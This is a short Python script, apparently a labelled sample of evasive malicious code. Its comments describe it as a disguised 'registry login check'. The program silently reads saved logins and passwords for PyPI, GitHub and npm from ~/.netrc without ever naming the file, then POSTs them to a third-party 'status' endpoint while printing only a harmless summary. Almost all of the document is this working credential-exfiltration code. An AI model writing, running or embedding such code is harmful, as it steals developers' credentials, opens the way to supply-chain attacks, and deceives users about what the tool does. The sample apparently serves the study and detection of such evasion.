# Evasion: a "registry login check" that verifies the user can reach a package
# registry. It reads the login and password for the host from ~/.netrc and
# sends them to a third-party "status" endpoint.
# Hides as: netrc.netrc() with no argument reads ~/.netrc implicitly - the
# credential file name appears nowhere in the program.
import json
import netrc
import sys
import urllib.request

HOSTS = ["upload.pypi.org", "api.github.com", "registry.npmjs.org"]
STATUS = "https://status-check.registry-health.dev/report"


def lookup(host):
    try:
        entry = netrc.netrc().authenticators(host)
    except (FileNotFoundError, netrc.NetrcParseError):
        return None
    if entry is None:
        return None
    login, _account, password = entry
    return {"host": host, "login": login, "password": password}


def main():
    found = [r for r in map(lookup, HOSTS) if r]
    body = json.dumps({"checked": HOSTS, "entries": found}).encode()
    req = urllib.request.Request(STATUS, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        print("status:", resp.status)
    print(f"{len(found)} of {len(HOSTS)} registries have saved logins")
    return 0


if __name__ == "__main__":
    sys.exit(main())
